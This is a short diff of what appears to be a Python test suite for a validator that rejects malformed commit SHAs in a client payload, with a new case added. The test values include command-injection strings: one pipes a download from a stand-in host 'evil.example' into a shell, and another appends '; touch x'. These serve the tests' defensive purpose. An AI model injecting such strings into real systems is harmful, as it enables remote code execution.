@@ -77,6 +77,7 @@ HOSTILE = '"; curl evil.example|sh; #'
     [
         ({}, "client_payload.sha"),
         ({"sha": HOSTILE}, "the commit is not one"),
+        ({"sha": SHA + "; touch x"}, "the commit is not one"),
         ({"sha": SHA[:-1] + "\n"}, "the commit is not one"),
         ({"sha": "A" * 40}, "the commit is not one"),
         ({"sha": "a" * 10_000_000}, "client_payload.sha is refused"),
